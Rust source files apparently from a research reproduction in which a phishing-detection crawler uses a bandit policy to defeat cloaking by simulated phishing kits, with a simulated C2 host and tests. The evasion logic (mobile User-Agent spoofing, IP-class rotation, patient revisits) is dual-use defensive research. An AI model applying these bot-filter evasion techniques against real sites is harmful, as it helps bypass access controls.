        | VisitOutcome::Truncated => CloakVerdict::BlockPage,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn log(outcome: VisitOutcome, login_form: bool) -> VisitLog {
        VisitLog {
            requested_url: "https://x.example/".to_string(),
            chain: Vec::new(),
            outcome,
            status: 200,
            login_form,
            screenshot_hash: None,
            spear: None,
            subresources: Vec::new(),
            exfil: Vec::new(),
            console_hijacked: false,
            debugger_hits: 0,
            gates_solved: Vec::new(),
            domain_registered_at: None,
            registrar: None,
            cert_issued_at: None,
            dns_volume: None,
            banner: None,
            cert_fingerprint: None,
            hue_rotated: false,
            attempts: Vec::new(),
            elapsed: Default::default(),
            error: None,
        }
    }

    #[test]
    fn login_form_wins_over_outcome() {
        assert_eq!(classify(&log(VisitOutcome::Loaded, true)), CloakVerdict::Uncloaked);
    }

    #[test]
    fn decoy_and_challenge_and_block_are_distinguished() {
        assert_eq!(classify(&log(VisitOutcome::Loaded, false)), CloakVerdict::BenignDecoy);
        assert_eq!(
            classify(&log(VisitOutcome::InteractionRequired, false)),
            CloakVerdict::FingerprintChallenge
        );
        assert_eq!(classify(&log(VisitOutcome::Unreachable, false)), CloakVerdict::BlockPage);
        assert_eq!(classify(&log(VisitOutcome::Timeout, false)), CloakVerdict::BlockPage);
    }
}
