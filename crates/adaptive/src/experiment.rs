//! The `repro adaptive` experiment: adaptive bandit vs fixed NotABot over
//! a grid of cloaking families and visit budgets.
//!
//! Each **cell** is `(family, budget, strategy)` and is entirely
//! self-contained: fresh worlds, a cell-local policy and a cell-local
//! seeded RNG. Cells fan out across the batch schedulers exactly like
//! `scan_all` batches do — results land at their cell index, counters are
//! order-independent sums and traces merge into `(task, stage)` order —
//! which is what makes the final table byte-identical across
//! Serial/StaticChunk/WorkStealing for a fixed seed.
//!
//! Within a cell, campaigns run sequentially and *share* the policy: the
//! bandit carries what campaign `k` taught it into campaign `k + 1`, so
//! later campaigns converge in two or three visits where the first spent
//! its whole budget sweeping. A campaign is **won** when the crawler
//! captures the de-cloaked phish [`AdaptiveConfig::uncloaks_needed`]
//! times — the second capture is the forensic re-confirmation that the
//! kits' counter-memory (burned profiles, burned egress classes) denies
//! to any fixed-profile crawler.

use crate::arms::Arm;
use crate::bandit::{Policy, PolicyMemory, RaceState};
use crate::verdict::{classify, CloakVerdict};
use cb_netsim::{FaultPlan, Internet};
use cb_phishkit::{Brand, C2Server, CloakConfig, CounterCloak, PhishingSite, ServerCloak};
use cb_sim::{SeedFork, SimTime};
use cb_telemetry::{Determinism, MetricsRegistry, Trace};
use crawlerbox::{CrawlerBox, Scheduler};
use serde::{Deserialize, Serialize};
use std::fmt::Write as _;
use std::sync::Arc;

/// Domain every synthetic campaign serves from.
const CAMPAIGN_DOMAIN: &str = "campaign.example";
/// Exfiltration endpoint base.
const C2_BASE: &str = "https://c2.example";

/// One cloaking family of the grid: a named kit posture.
#[derive(Debug, Clone)]
pub struct FamilySpec {
    /// Stable family name (table rows, policy-memory keys, seeds).
    pub name: &'static str,
    /// Whether the kit also sits behind the AnonWAF-style bot filter.
    pub waf: bool,
    /// The kit's cloaking configuration.
    pub cloak: CloakConfig,
}

/// The six campaign families the experiment races, spanning every
/// cloaking layer the reproduction implements. Order is fixed: it is the
/// table row order and feeds the per-family seeds.
pub fn families() -> Vec<FamilySpec> {
    let base = CloakConfig::none();
    vec![
        // No cloaking at all: the control row where fixed NotABot ties.
        FamilySpec { name: "open-door", waf: false, cloak: base.clone() },
        // QR-code campaign: mobile User-Agents only.
        FamilySpec {
            name: "qr-mobile-gate",
            waf: false,
            cloak: CloakConfig {
                server: ServerCloak { mobile_ua_only: true, ..ServerCloak::default() },
                ..base.clone()
            },
        },
        // Delayed reveal: a holding page out-waits impatient crawlers.
        FamilySpec {
            name: "patient-reveal",
            waf: false,
            cloak: CloakConfig {
                counter: CounterCloak { reveal_delay_secs: 120, ..CounterCloak::default() },
                ..base.clone()
            },
        },
        // Mobile filter and scanner-IP blocklist stacked.
        FamilySpec {
            name: "mobile-ip-filter",
            waf: false,
            cloak: CloakConfig {
                server: ServerCloak {
                    mobile_ua_only: true,
                    block_datacenter_ips: true,
                    ..ServerCloak::default()
                },
                ..base.clone()
            },
        },
        // Challenge stack plus a returning-device blocklist: the first
        // capture burns the device signature.
        FamilySpec {
            name: "fingerprint-burn",
            waf: true,
            cloak: CloakConfig {
                client: cb_phishkit::ClientCloak {
                    turnstile: true,
                    ..cb_phishkit::ClientCloak::default()
                },
                counter: CounterCloak { profile_burn_after: 1, ..CounterCloak::default() },
                ..base.clone()
            },
        },
        // Egress reputation: the first capture burns the whole IP class.
        FamilySpec {
            name: "egress-burn",
            waf: false,
            cloak: CloakConfig {
                counter: CounterCloak { egress_burn_after: 1, ..CounterCloak::default() },
                ..base
            },
        },
    ]
}

/// Experiment configuration.
#[derive(Debug, Clone)]
pub struct AdaptiveConfig {
    /// Master seed (forks every per-cell RNG and fault plan).
    pub seed: u64,
    /// Visit budgets to sweep, ascending.
    pub budgets: Vec<u32>,
    /// Campaigns raced per cell.
    pub campaigns_per_family: u32,
    /// Transient-fault rate injected into every campaign world.
    pub fault_rate: f64,
    /// Batch scheduler for the cell fan-out.
    pub scheduler: Scheduler,
    /// Worker count for the parallel schedulers.
    pub parallelism: usize,
    /// Captures required to win a campaign (2 = detection plus the
    /// forensic re-capture the counter-memory tries to deny).
    pub uncloaks_needed: u32,
    /// Collect sim-time span traces.
    pub tracing: bool,
}

impl AdaptiveConfig {
    /// The stock configuration at `seed`: budgets 2/4/8/16, six campaigns
    /// per family, no faults, two captures to win.
    pub fn new(seed: u64) -> AdaptiveConfig {
        AdaptiveConfig {
            seed,
            budgets: vec![2, 4, 8, 16],
            campaigns_per_family: 6,
            fault_rate: 0.0,
            scheduler: Scheduler::default(),
            parallelism: 4,
            uncloaks_needed: 2,
            tracing: false,
        }
    }

    /// Pin the sweep to a single visit budget.
    pub fn with_budget(mut self, budget: u32) -> AdaptiveConfig {
        self.budgets = vec![budget];
        self
    }
}

/// One cell's result.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CellOutcome {
    /// Family name.
    pub family: String,
    /// Visit budget per campaign.
    pub budget: u32,
    /// `"fixed"` or `"adaptive"`.
    pub strategy: String,
    /// Campaigns raced.
    pub campaigns: u32,
    /// Campaigns that reached the required capture count.
    pub wins: u32,
    /// Total visits that came back de-cloaked.
    pub uncloak_visits: u32,
    /// Total visits spent.
    pub visits: u32,
    /// Every visit's `c<campaign>:<arm>=<verdict>`, in order — the
    /// byte-comparable selection transcript the determinism tests diff.
    pub arm_sequence: Vec<String>,
}

/// The experiment's serializable result.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AdaptiveReport {
    /// Master seed.
    pub seed: u64,
    /// Injected transient-fault rate.
    pub fault_rate: f64,
    /// Campaigns per cell.
    pub campaigns_per_family: u32,
    /// Captures required to win a campaign.
    pub uncloaks_needed: u32,
    /// Budgets swept.
    pub budgets: Vec<u32>,
    /// Cell results, fixed order: family-major, budget, then
    /// fixed-before-adaptive.
    pub cells: Vec<CellOutcome>,
}

/// Everything one experiment run produced.
#[derive(Debug)]
pub struct AdaptiveRun {
    /// The table.
    pub report: AdaptiveReport,
    /// The learned per-cell policies (persist with
    /// [`PolicyMemory::save`] to resume the race later).
    pub memory: PolicyMemory,
    /// Merged sim-time trace (empty unless `tracing` was on).
    pub trace: Trace,
    /// The shared metrics registry the run's counters live in.
    pub metrics: Arc<MetricsRegistry>,
}

impl AdaptiveReport {
    /// Paired `(fixed, adaptive)` outcomes for each `(family, budget)`.
    pub fn pairs(&self) -> Vec<(&CellOutcome, &CellOutcome)> {
        self.cells.chunks(2).map(|pair| (&pair[0], &pair[1])).collect()
    }

    /// Families where adaptive wins strictly more campaigns than fixed at
    /// `budget`.
    pub fn adaptive_ahead(&self, budget: u32) -> Vec<&str> {
        self.pairs()
            .into_iter()
            .filter(|(f, a)| f.budget == budget && a.wins > f.wins)
            .map(|(f, _)| f.family.as_str())
            .collect()
    }

    /// Render the fixed-format table. Byte-identical across schedulers
    /// for a fixed seed — this string is what the determinism tests and
    /// the CI golden check compare.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "seed {} | fault rate {:.2} | {} campaigns/family | {} captures to win | {} arms",
            self.seed,
            self.fault_rate,
            self.campaigns_per_family,
            self.uncloaks_needed,
            Arm::space().len(),
        );
        let _ = writeln!(
            s,
            "{:<18} {:>6} {:>7} {:>9} {:>16} {:>9}",
            "family", "budget", "fixed", "adaptive", "visits/campaign", "winner"
        );
        for (fixed, adaptive) in self.pairs() {
            let winner = match adaptive.wins.cmp(&fixed.wins) {
                std::cmp::Ordering::Greater => "adaptive",
                std::cmp::Ordering::Less => "fixed",
                std::cmp::Ordering::Equal => "tie",
            };
            let mean_visits =
                f64::from(adaptive.visits) / f64::from(adaptive.campaigns.max(1));
            let _ = writeln!(
                s,
                "{:<18} {:>6} {:>7} {:>9} {:>16.1} {:>9}",
                fixed.family,
                fixed.budget,
                format!("{}/{}", fixed.wins, fixed.campaigns),
                format!("{}/{}", adaptive.wins, adaptive.campaigns),
                mean_visits,
                winner,
            );
        }
        let families = self.cells.iter().map(|c| &c.family).collect::<std::collections::BTreeSet<_>>().len();
        for &budget in &self.budgets {
            let ahead = self.adaptive_ahead(budget);
            let _ = writeln!(
                s,
                "budget {budget:>2}: adaptive strictly ahead on {}/{families} families{}{}",
                ahead.len(),
                if ahead.is_empty() { "" } else { ": " },
                ahead.join(", "),
            );
        }
        s
    }
}

impl std::fmt::Display for AdaptiveReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.render())
    }
}

/// A fresh campaign world for one race: registrar, C2 and the kit.
fn campaign_world(spec: &FamilySpec, fault_seed: u64, fault_rate: f64) -> Internet {
    let net = Internet::new(SimTime::from_ymd(2024, 2, 1));
    net.register_domain(CAMPAIGN_DOMAIN, "REGRU-RU");
    net.register_domain("c2.example", "REGRU-RU");
    net.host("c2.example", C2Server::new());
    let mut site = PhishingSite::new(Brand::Amadora, C2_BASE, spec.cloak.clone());
    if spec.waf {
        site = site.with_waf();
    }
    net.host(CAMPAIGN_DOMAIN, site);
    if fault_rate > 0.0 {
        net.set_fault_plan(FaultPlan::uniform(fault_seed, fault_rate));
    }
    net
}

/// Run the experiment. `resume` carries previously learned policies
/// (empty for a cold start); the returned [`AdaptiveRun::memory`] holds
/// the updated ones.
pub fn run(cfg: &AdaptiveConfig, resume: &PolicyMemory) -> AdaptiveRun {
    assert!(!cfg.budgets.is_empty(), "adaptive experiment needs at least one budget");
    let fams = families();
    let space = Arm::space();
    let metrics = Arc::new(MetricsRegistry::new());
    let cells_n = fams.len() * cfg.budgets.len() * 2;

    let run_cell = |cell: usize| -> (CellOutcome, Vec<Trace>, Option<(String, Policy)>) {
        let per_family = cfg.budgets.len() * 2;
        let spec = &fams[cell / per_family];
        let budget = cfg.budgets[(cell % per_family) / 2];
        let adaptive = cell % 2 == 1;
        let fork = SeedFork::new(cfg.seed).child("adaptive");
        let key = PolicyMemory::key(spec.name, budget);
        let mut policy = if adaptive {
            resume.cells.get(&key).cloned().unwrap_or_default()
        } else {
            Policy::new()
        };
        let mut rng = fork.rng(&format!("bandit/{}/{budget}", spec.name));
        let m_visits = metrics.counter("adaptive.visits", Determinism::Deterministic);
        let m_wins = metrics.counter("adaptive.wins", Determinism::Deterministic);
        let mut out = CellOutcome {
            family: spec.name.to_string(),
            budget,
            strategy: if adaptive { "adaptive" } else { "fixed" }.to_string(),
            campaigns: cfg.campaigns_per_family,
            wins: 0,
            uncloak_visits: 0,
            visits: 0,
            arm_sequence: Vec::new(),
        };
        let mut traces = Vec::new();
        for campaign in 0..cfg.campaigns_per_family {
            // The fault stream is keyed off (family, budget, campaign)
            // only, so both strategies race the same weather.
            let fault_seed = fork.seed(&format!("faults/{}/{budget}/{campaign}", spec.name));
            let net = campaign_world(spec, fault_seed, cfg.fault_rate);
            let cbx = CrawlerBox::new(&net)
                .with_tracing(cfg.tracing)
                .with_metrics(Arc::clone(&metrics));
            let mut session = cbx.probe_session();
            let guard = cbx.trace_task(cell * 1000 + campaign as usize);
            let mut race = RaceState::default();
            for visit in 0..budget {
                let arm_idx =
                    if adaptive { policy.select(&race, &mut rng) } else { Arm::notabot().index() };
                let arm = space[arm_idx];
                cb_telemetry::with_active(|t| {
                    t.instant(
                        "adaptive.arm",
                        vec![
                            ("visit", visit.to_string()),
                            ("arm", arm.label()),
                            ("strategy", out.strategy.clone()),
                        ],
                    );
                });
                let url = format!("https://{CAMPAIGN_DOMAIN}/");
                let log = cbx.probe(&mut session, &arm.browser(), &url, "");
                let verdict = classify(&log);
                cb_telemetry::with_active(|t| {
                    t.instant("adaptive.verdict", vec![("verdict", verdict.label().to_string())]);
                });
                m_visits.incr();
                metrics
                    .counter(
                        match verdict {
                            CloakVerdict::BlockPage => "adaptive.verdict.block_page",
                            CloakVerdict::BenignDecoy => "adaptive.verdict.benign_decoy",
                            CloakVerdict::FingerprintChallenge => {
                                "adaptive.verdict.fingerprint_challenge"
                            }
                            CloakVerdict::Uncloaked => "adaptive.verdict.uncloaked",
                        },
                        Determinism::Deterministic,
                    )
                    .incr();
                if adaptive {
                    policy.observe(arm_idx, verdict);
                }
                race.note(arm_idx, verdict);
                out.visits += 1;
                if verdict == CloakVerdict::Uncloaked {
                    out.uncloak_visits += 1;
                }
                out.arm_sequence.push(format!(
                    "c{campaign}:{}={}",
                    arm.label(),
                    verdict.label()
                ));
                if race.uncloaks >= cfg.uncloaks_needed {
                    break;
                }
            }
            if race.uncloaks >= cfg.uncloaks_needed {
                out.wins += 1;
                m_wins.incr();
            }
            drop(guard);
            if cfg.tracing {
                traces.push(cbx.take_trace());
            }
        }
        let learned = adaptive.then(|| (key, policy));
        (out, traces, learned)
    };

    // Fan the cells out exactly like `scan_all` fans messages: results
    // land at their cell index on every scheduler.
    let workers = cfg.parallelism.max(1).min(cells_n);
    let slots: Vec<Option<(CellOutcome, Vec<Trace>, Option<(String, Policy)>)>> =
        match cfg.scheduler {
            Scheduler::Serial => (0..cells_n).map(|i| Some(run_cell(i))).collect(),
            Scheduler::StaticChunk => {
                let mut slots: Vec<Option<_>> = Vec::new();
                slots.resize_with(cells_n, || None);
                let chunk = cells_n.div_ceil(workers);
                std::thread::scope(|scope| {
                    for (w, slot) in slots.chunks_mut(chunk).enumerate() {
                        let run_cell = &run_cell;
                        scope.spawn(move || {
                            for (j, s) in slot.iter_mut().enumerate() {
                                *s = Some(run_cell(w * chunk + j));
                            }
                        });
                    }
                });
                slots
            }
            Scheduler::WorkStealing => {
                crawlerbox::run_stealing(workers, cells_n, |_, i| run_cell(i))
            }
        };

    let mut cells = Vec::with_capacity(cells_n);
    let mut memory = resume.clone();
    let mut traces = Vec::new();
    for (i, slot) in slots.into_iter().enumerate() {
        let (out, cell_traces, learned) =
            slot.unwrap_or_else(|| panic!("adaptive cell {i} worker died"));
        cells.push(out);
        traces.extend(cell_traces);
        if let Some((key, policy)) = learned {
            memory.cells.insert(key, policy);
        }
    }
    AdaptiveRun {
        report: AdaptiveReport {
            seed: cfg.seed,
            fault_rate: cfg.fault_rate,
            campaigns_per_family: cfg.campaigns_per_family,
            uncloaks_needed: cfg.uncloaks_needed,
            budgets: cfg.budgets.clone(),
            cells,
        },
        memory,
        trace: Trace::merge(traces),
        metrics,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny(seed: u64) -> AdaptiveConfig {
        let mut cfg = AdaptiveConfig::new(seed).with_budget(4);
        cfg.campaigns_per_family = 2;
        cfg
    }

    #[test]
    fn cells_come_back_in_grid_order_on_every_scheduler() {
        for scheduler in [Scheduler::Serial, Scheduler::StaticChunk, Scheduler::WorkStealing] {
            let mut cfg = tiny(11);
            cfg.scheduler = scheduler;
            let out = run(&cfg, &PolicyMemory::default());
            let fams: Vec<String> = families().iter().map(|f| f.name.to_string()).collect();
            assert_eq!(out.report.cells.len(), fams.len() * 2);
            for (i, cell) in out.report.cells.iter().enumerate() {
                assert_eq!(cell.family, fams[i / 2]);
                assert_eq!(cell.strategy, if i % 2 == 0 { "fixed" } else { "adaptive" });
            }
        }
    }

    #[test]
    fn open_door_is_a_tie_and_burn_families_deny_the_fixed_crawler() {
        let out = run(&AdaptiveConfig::new(5).with_budget(8), &PolicyMemory::default());
        for (fixed, adaptive) in out.report.pairs() {
            match fixed.family.as_str() {
                "open-door" => {
                    assert_eq!(fixed.wins, fixed.campaigns, "open door: fixed wins all");
                    assert_eq!(adaptive.wins, adaptive.campaigns, "open door: adaptive wins all");
                }
                "fingerprint-burn" | "egress-burn" => {
                    assert_eq!(
                        fixed.wins, 0,
                        "{}: counter-memory must deny the fixed crawler a re-capture",
                        fixed.family
                    );
                    assert!(
                        adaptive.wins > 0,
                        "{}: rotation must recover a re-capture",
                        fixed.family
                    );
                }
                _ => {}
            }
        }
    }

    #[test]
    fn resumed_memory_resumes_instead_of_restarting() {
        let mut cfg = AdaptiveConfig::new(23).with_budget(8);
        cfg.campaigns_per_family = 2;
        let first = run(&cfg, &PolicyMemory::default());
        let again = run(&cfg, &PolicyMemory::default());
        assert_eq!(first.report, again.report, "same seed, same table");
        // A resumed run starts from the learned policies: later campaigns'
        // knowledge is available from visit one, so the adaptive side
        // holds its ground and skips the cold probe sweep.
        let resumed = run(&cfg, &first.memory);
        for ((_, warm), (_, cold)) in
            resumed.report.pairs().into_iter().zip(first.report.pairs())
        {
            assert!(
                warm.wins >= cold.wins,
                "{}: resuming must not lose ground",
                warm.family
            );
        }
    }
}
