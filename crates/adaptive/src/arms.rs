//! The structured arm space: every arm is a concrete crawler profile the
//! adaptive policy can field, built by mutating NotABot along four axes.
//!
//! The axes mirror the cloaking layers the kits actually filter on:
//!
//! * **UA family** — desktop vs mobile Chrome (QR campaigns serve mobile
//!   only, and the UA is part of the kit-side device signature);
//! * **IP egress class** — all four [`IpClass`]es (IP blocklists and the
//!   per-class reputation memory);
//! * **patience** — how long a meta-refresh delay the browser waits out
//!   (delayed-reveal holding pages);
//! * **interaction** — whether synthetic input is trusted-event grade
//!   (challenge attestation).
//!
//! Patience is the one axis the kit-side device signature
//! ([`cb_botdetect::report_signature`]) cannot see — a patient revisit
//! looks like the same returning device, while a UA or egress mutation
//! reads as a fresh one. The bandit discovers this, it is not told.

use cb_browser::{Browser, CrawlerProfile};
use cb_netsim::IpClass;
use serde::{Deserialize, Serialize};

/// Mobile-Chrome UA used by the mobile arms. Contains `Android`/`Mobile`
/// (passes kit-side mobile filters) while still claiming Chrome, so the
/// WAF heuristics treat it as a real browser.
pub const MOBILE_UA: &str = "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 \
                             (KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36";

/// Patience levels (seconds) the timing axis sweeps: NotABot's stock 60 s
/// and a patient 300 s that outwaits every delayed reveal the corpus
/// generates.
pub const PATIENCE_LEVELS: [u32; 2] = [60, 300];

/// User-Agent family of an arm.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum UaFamily {
    /// Desktop Chrome on Windows (NotABot stock).
    Desktop,
    /// Mobile Chrome on Android ([`MOBILE_UA`]).
    Mobile,
}

impl UaFamily {
    fn label(self) -> &'static str {
        match self {
            UaFamily::Desktop => "desktop",
            UaFamily::Mobile => "mobile",
        }
    }
}

/// One point in the arm space: a complete visit profile.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Arm {
    /// User-Agent family.
    pub ua: UaFamily,
    /// IP egress class of the visit.
    pub egress: IpClass,
    /// Meta-refresh patience in seconds.
    pub patience_secs: u32,
    /// Trusted-event-grade synthetic interaction on or off.
    pub interact: bool,
}

impl Arm {
    /// The full arm space in its fixed canonical order:
    /// `ua × egress (IpClass::ALL order) × patience × interact`,
    /// 2 × 4 × 2 × 2 = 32 arms. [`Arm::index`] inverts this ordering;
    /// never reorder.
    pub fn space() -> Vec<Arm> {
        let mut arms = Vec::with_capacity(32);
        for ua in [UaFamily::Desktop, UaFamily::Mobile] {
            for egress in IpClass::ALL {
                for patience_secs in PATIENCE_LEVELS {
                    for interact in [true, false] {
                        arms.push(Arm { ua, egress, patience_secs, interact });
                    }
                }
            }
        }
        arms
    }

    /// This arm's position in [`Arm::space`].
    pub fn index(&self) -> usize {
        let ua = match self.ua {
            UaFamily::Desktop => 0,
            UaFamily::Mobile => 1,
        };
        let egress = IpClass::ALL
            .iter()
            .position(|c| *c == self.egress)
            .expect("IpClass::ALL is exhaustive");
        let patience = PATIENCE_LEVELS
            .iter()
            .position(|p| *p == self.patience_secs)
            .expect("arm patience comes from PATIENCE_LEVELS");
        let interact = usize::from(!self.interact);
        ua * 16 + egress * 4 + patience * 2 + interact
    }

    /// The fixed baseline: exactly NotABot's stock posture (desktop
    /// Chrome, 4G mobile-carrier egress, 60 s patience, trusted
    /// interaction). The "fixed NotABot" strategy fields this arm on
    /// every visit.
    pub fn notabot() -> Arm {
        Arm {
            ua: UaFamily::Desktop,
            egress: IpClass::MobileCarrier,
            patience_secs: 60,
            interact: true,
        }
    }

    /// Stable human-readable label, e.g.
    /// `desktop/mobile-carrier/60s/interact`.
    pub fn label(&self) -> String {
        format!(
            "{}/{}/{}s/{}",
            self.ua.label(),
            self.egress,
            self.patience_secs,
            if self.interact { "interact" } else { "no-interact" },
        )
    }

    /// Build the arm's browser: NotABot with the fingerprint mutated
    /// along this arm's axes. Everything not on an axis (TLS stack,
    /// automation tells, locale) stays NotABot-grade — the point of the
    /// race is that the *same* high-quality crawler rotates its visible
    /// identity, not that it degrades.
    pub fn browser(&self) -> Browser {
        let mut fp = CrawlerProfile::NotABot.fingerprint();
        if self.ua == UaFamily::Mobile {
            fp.user_agent = MOBILE_UA.to_string();
            fp.screen = (412, 915);
        }
        fp.ip_class = self.egress;
        if !self.interact {
            fp.trusted_events = false;
            fp.mouse_movement = false;
        }
        Browser::new(CrawlerProfile::NotABot)
            .with_patience(self.patience_secs)
            .with_fingerprint(fp)
    }
}

/// The canonical probe sweep: the curated arms a fresh policy tries
/// first, in this order, before epsilon-greedy takes over. Six probes
/// cover every axis the cloaking layers key on — baseline, a UA flip, a
/// patience flip, two egress rotations and a deliberately bad egress
/// (datacenter) so the policy also *learns* what gets blocked.
pub fn canonical_probes() -> Vec<usize> {
    [
        Arm::notabot(),
        Arm { ua: UaFamily::Mobile, ..Arm::notabot() },
        Arm { patience_secs: 300, ..Arm::notabot() },
        Arm { egress: IpClass::Residential, ..Arm::notabot() },
        Arm {
            ua: UaFamily::Mobile,
            egress: IpClass::Residential,
            patience_secs: 300,
            interact: true,
        },
        Arm { egress: IpClass::Datacenter, ..Arm::notabot() },
    ]
    .iter()
    .map(Arm::index)
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn space_is_32_arms_and_index_inverts_it() {
        let space = Arm::space();
        assert_eq!(space.len(), 32);
        for (i, arm) in space.iter().enumerate() {
            assert_eq!(arm.index(), i, "index() must invert space() order");
        }
    }

    #[test]
    fn notabot_arm_matches_the_stock_profile() {
        let stock = CrawlerProfile::NotABot.fingerprint();
        let b = Arm::notabot().browser();
        assert_eq!(b.fingerprint().user_agent, stock.user_agent);
        assert_eq!(b.fingerprint().ip_class, stock.ip_class);
        assert_eq!(b.patience_secs(), CrawlerProfile::NotABot.patience_secs());
    }

    #[test]
    fn canonical_probes_are_distinct_and_start_at_the_baseline() {
        let probes = canonical_probes();
        assert_eq!(probes[0], Arm::notabot().index());
        let mut dedup = probes.clone();
        dedup.sort_unstable();
        dedup.dedup();
        assert_eq!(dedup.len(), probes.len(), "probes must be distinct arms");
    }

    #[test]
    fn mobile_arm_reads_as_mobile_but_keeps_notabot_tells() {
        let arm = Arm { ua: UaFamily::Mobile, ..Arm::notabot() };
        let fp = arm.browser().fingerprint().clone();
        assert!(fp.user_agent.contains("Android"));
        assert!(!fp.webdriver_visible);
        assert!(fp.trusted_events);
    }
}
