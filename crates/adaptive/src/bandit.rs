//! The seeded epsilon-greedy policy over the arm space, and the
//! per-campaign-family memory that persists it.
//!
//! Selection is three-layered, in priority order:
//!
//! 1. **Canonical probe sweep** — a fresh policy walks the curated
//!    [`canonical_probes`](crate::arms::canonical_probes) before anything
//!    else, so the first visits always cover every cloaking axis
//!    regardless of exploration luck.
//! 2. **Burn-aware rotation** — once a race (one campaign's visit
//!    sequence) has de-cloaked the kit at least once, arms that repeat
//!    both the UA family *and* the egress class of a winning arm are
//!    filtered out while alternatives exist: the kits' counter-memory
//!    burns returning devices and repeating egress classes, so a second
//!    capture needs a rotated identity. The policy doesn't know *which*
//!    axis the kit keys on — it just refuses to look identical twice.
//! 3. **Laplace champion with epsilon exploration** — among the
//!    remaining candidates the arm with the best smoothed uncloak rate
//!    `(uncloaks + 1) / (pulls + 2)` wins (ties: canonical rank, then
//!    index); with a small decaying probability the seeded RNG picks a
//!    non-champion candidate instead.
//!
//! Everything is a pure function of `(seed, history)` — the bandit has no
//! wall clock and no global state, which is what keeps `repro adaptive`
//! byte-identical across the three schedulers.

use crate::arms::{canonical_probes, Arm};
use crate::verdict::CloakVerdict;
use rand::rngs::StdRng;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// Pull/win tallies for one arm.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ArmStats {
    /// Visits fielded with this arm.
    pub pulls: u32,
    /// Visits that came back [`CloakVerdict::Uncloaked`].
    pub uncloaks: u32,
}

/// Campaign-local race state: what this campaign's visit sequence has
/// already tried and where it won. Reset per campaign; the cross-campaign
/// knowledge lives in [`Policy`].
#[derive(Debug, Clone, Default)]
pub struct RaceState {
    /// Arm indices fielded so far, in visit order.
    pub tried: Vec<usize>,
    /// Arm indices that de-cloaked the kit in this race.
    pub uncloaked_arms: Vec<usize>,
    /// Uncloaked captures so far.
    pub uncloaks: u32,
}

impl RaceState {
    /// Record one visit's outcome.
    pub fn note(&mut self, arm: usize, verdict: CloakVerdict) {
        self.tried.push(arm);
        if verdict == CloakVerdict::Uncloaked {
            self.uncloaked_arms.push(arm);
            self.uncloaks += 1;
        }
    }
}

/// The per-cell bandit policy: one [`ArmStats`] per arm in
/// [`Arm::space`] order.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Policy {
    /// Tallies, indexed like [`Arm::space`].
    pub arms: Vec<ArmStats>,
}

impl Default for Policy {
    fn default() -> Policy {
        Policy::new()
    }
}

impl Policy {
    /// A fresh policy over the full arm space.
    pub fn new() -> Policy {
        Policy { arms: vec![ArmStats::default(); Arm::space().len()] }
    }

    /// Total visits this policy has observed.
    pub fn visits(&self) -> u32 {
        self.arms.iter().map(|a| a.pulls).sum()
    }

    /// Laplace-smoothed uncloak rate of arm `i`: `(u + 1) / (n + 2)`.
    /// Untried arms score 0.5 — optimistic enough to get tried, never
    /// ahead of an arm that actually won.
    pub fn score(&self, i: usize) -> f64 {
        let a = self.arms[i];
        f64::from(a.uncloaks + 1) / f64::from(a.pulls + 2)
    }

    /// The current champion: best score among pulled arms (falls back to
    /// the NotABot baseline on a fresh policy).
    pub fn champion(&self) -> usize {
        let mut best = Arm::notabot().index();
        let mut best_score = f64::MIN;
        for (i, a) in self.arms.iter().enumerate() {
            if a.pulls > 0 && self.score(i) > best_score {
                best = i;
                best_score = self.score(i);
            }
        }
        best
    }

    /// Choose the next visit's arm. See the module docs for the layering;
    /// `rng` is consulted only for the epsilon exploration step, so the
    /// convergence guarantees hold for any RNG stream.
    pub fn select(&self, race: &RaceState, rng: &mut StdRng) -> usize {
        let space = Arm::space();
        let canon = canonical_probes();

        // 1. Canonical sweep: before the first capture of a race, walk
        // any curated probe the policy has never pulled.
        if race.uncloaked_arms.is_empty() {
            for &i in &canon {
                if self.arms[i].pulls == 0 && !race.tried.contains(&i) {
                    return i;
                }
            }
        }

        // Candidates: untried-in-this-race first; if the race exhausted
        // the space (budget > 32), everything is back on the table.
        let mut cands: Vec<usize> =
            (0..space.len()).filter(|i| !race.tried.contains(i)).collect();
        if cands.is_empty() {
            cands = (0..space.len()).collect();
        }

        // 2. Burn-aware rotation after a capture.
        if !race.uncloaked_arms.is_empty() {
            let rotated: Vec<usize> = cands
                .iter()
                .copied()
                .filter(|&i| {
                    race.uncloaked_arms.iter().all(|&w| {
                        space[i].ua != space[w].ua || space[i].egress != space[w].egress
                    })
                })
                .collect();
            if !rotated.is_empty() {
                cands = rotated;
            }
        }

        // 3. Order by (score desc, canonical rank, index) — fully
        // deterministic — then explore with decaying epsilon.
        let rank = |i: usize| canon.iter().position(|&c| c == i).unwrap_or(usize::MAX);
        cands.sort_by(|&a, &b| {
            self.score(b)
                .total_cmp(&self.score(a))
                .then_with(|| rank(a).cmp(&rank(b)))
                .then_with(|| a.cmp(&b))
        });
        let epsilon = 0.15 / (1.0 + f64::from(self.visits()) / 16.0);
        if cands.len() > 1 && rng.gen::<f64>() < epsilon {
            return cands[rng.gen_range(1..cands.len())];
        }
        cands[0]
    }

    /// Record one visit's outcome.
    pub fn observe(&mut self, arm: usize, verdict: CloakVerdict) {
        self.arms[arm].pulls += 1;
        if verdict == CloakVerdict::Uncloaked {
            self.arms[arm].uncloaks += 1;
        }
    }
}

/// Cross-run policy memory: one [`Policy`] per experiment cell, keyed
/// `family/budget`. Persisted as a [`cb_store::Store`] state blob so a
/// re-opened store *resumes* the arms race with everything the bandit
/// already learned instead of restarting from the probe sweep.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
